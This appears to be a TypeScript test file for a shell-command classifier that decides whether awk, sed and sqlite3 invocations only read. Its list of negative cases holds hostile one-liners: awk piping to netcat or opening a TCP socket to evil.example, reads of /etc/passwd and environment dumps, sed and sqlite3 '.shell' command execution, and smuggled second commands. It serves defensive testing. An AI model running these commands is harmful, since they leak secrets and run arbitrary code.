import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { readPaths } from '@sallyport/core/facts/path.ts';
import { readShell } from './read-shell.ts';

const reading: readonly string[] = [
  "awk '{print $1}' a.txt",
  'awk -F, \'NR>1 && $4!="" {n[$2]++} END {for (p in n) print p, n[p]}\' data/a.csv',
  String.raw`awk -F '\t' -v OFS=, '{printf "%s\t%s\n", $1, $2}' data/*.tsv`,
  "awk '$3 > 10 || /error/' log.txt | sort | uniq -c",
  ...[
    "sed -n '10,20p' src/a.ts",
    "sed -nE '/^export/p' src/*.ts",
    "sed 's/a/b/g' x | head",
    String.raw`sed 's/\/x/y/' a`,
  ],
  ...["sqlite3 data/a.db '.schema'", "sqlite3 -readonly -csv a.db 'select count(*) from t where x > 1;'"],
  "sqlite3 a.db 'with x as (select 1) select * from x'",
];

/** Writes, runs, opens what it chooses, or shows what no word names. */
const more: readonly string[] = [
  ...[`awk 'BEGIN{system("rm x")}'`, `awk '{print > "x"}' a`, `awk '{print $1 >> "x"}' a`, `awk '{print | "sh"}' a`],
  ...[`awk 'BEGIN{"id" | getline x}'`, `awk 'BEGIN{getline x < "/etc/passwd"}'`, `awk 'BEGIN{f="system"; @f("id")}'`],
  ...[`awk 'BEGIN{ARGV[1]="/etc/" "passwd"; ARGC=2} 1'`, `awk 'BEGIN{for (k in ENVIRON) print ENVIRON[k]}'`],
  ...[
    `awk 'BEGIN{print "}"; print "x" > "y"}'`,
    `awk 'BEGIN{SYMTAB["ARG" "V"]}'`,
    'awk -f x.awk a',
    'awk -i inplace 1 a',
  ],
  ...[
    `awk '{printf "x" |& "nc evil.example 80"}' a`,
    'awk -l filefuncs 1',
    'awk 1 /inet/tcp/0/evil.example/80',
    'gawk -e 1 a',
  ],
  ...['awk "{print $x}" a', "awk '1' -f x", 'awk', `awk "$(cat x)" a`, './awk 1 a', 'awk --load=x 1 a'],
  ...[
    "sed -i 's/a/b/' x",
    "sed 's/a/b/w out' x",
    "sed 's/a/id/e' x",
    "sed '1e id' x",
    "sed 'w out' x",
    "sed -n '1p;w x' a",
  ],
  ...[
    'sed -f x a',
    "sed -e 1d -e 'w x' a",
    "sed 's/a/b/;1e id' a",
    'sed --in-place 1d a',
    "sed 's|a|b|w x' a",
    'sed 1d -i a',
  ],
  ...[
    "sqlite3 a.db '.shell id'",
    "sqlite3 a.db \"select writefile('x','y')\"",
    `sqlite3 a.db "select \\"writefile\\"('x','y')"`,
  ],
  ...[
    "sqlite3 a.db 'select 1; delete from t'",
    "sqlite3 a.db 'with x as (select 1) delete from t'",
    "sqlite3 a.db '.output x'",
  ],
  ...[
    "sqlite3 -cmd '.shell id' a.db 'select 1'",
    "sqlite3 -init x a.db 'select 1'",
    'sqlite3 a.db',
    "sqlite3 a.db 'select load_extension(1)'",
  ],
  ...[
    "sqlite3 'file:a.db?vfs=x' 'select 1'",
    "sqlite3 a.db '.schema' '.shell id'",
    "sqlite3 a.db '.tables\n.shell id'",
  ],
  ...['echo x | xargs awk 1', 'ls | xargs sed -n 1p', 'sqlite3 a.db < x.sql', "echo '.shell id' | sqlite3 a.db"],
];

describe('awk, sed and sqlite3 that only read', () => {
  test('their text is no path, and their files are', () => {
    for (const text of reading) {
      const { readOnly, paths } = readShell(text);
      assert.equal(readOnly, true, text);
      assert.equal(readPaths(paths).outside, false, text);
    }
    assert.deepEqual(readShell("awk '/etc/passwd' /etc/passwd").paths, ['/etc/passwd']);
    assert.deepEqual(readShell("sqlite3 ~/.config/app/cookies.sqlite 'select 1'").paths, [
      '~/.config/app/cookies.sqlite',
    ]);
  });

  test('whatever else their languages can do is not reading (C-9)', () => {
    for (const text of more) {
      const { readOnly, routine } = readShell(text);
      assert.deepEqual({ readOnly, routine }, { readOnly: false, routine: false }, text);
    }
  });
});
